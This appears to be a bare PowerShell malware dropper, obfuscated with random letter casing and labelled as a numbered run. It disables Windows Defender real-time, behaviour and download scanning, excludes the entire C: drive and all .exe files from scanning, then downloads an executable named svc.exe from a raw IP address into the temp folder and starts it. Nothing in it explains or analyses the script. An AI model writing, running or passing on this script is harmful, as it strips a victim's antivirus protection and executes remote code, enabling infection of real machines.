# ruN 0041 V3
sEt-mPpReFeReNcE -dIsAbLeReAlTiMeMoNiToRiNg $TrUE -DIsaBLEBEhaViORMoniToRinG $TRUE -DISAbLeIOAvprOtEctiOn $tRuE
add-mpPReferenCE -ExclusIoNPaTH 'C:\'
AdD-MpPREfereNce -eXcLuSiOnExTeNsIoN '.exe'
(neW-oBJeCT Net.wEbClIeNt).DOwNLoaDFILE('http://203.0.113.17/svc.exe', "$env:TEMP\svc.exe")
starT-PRoCess "$env:TEMP\svc.exe"
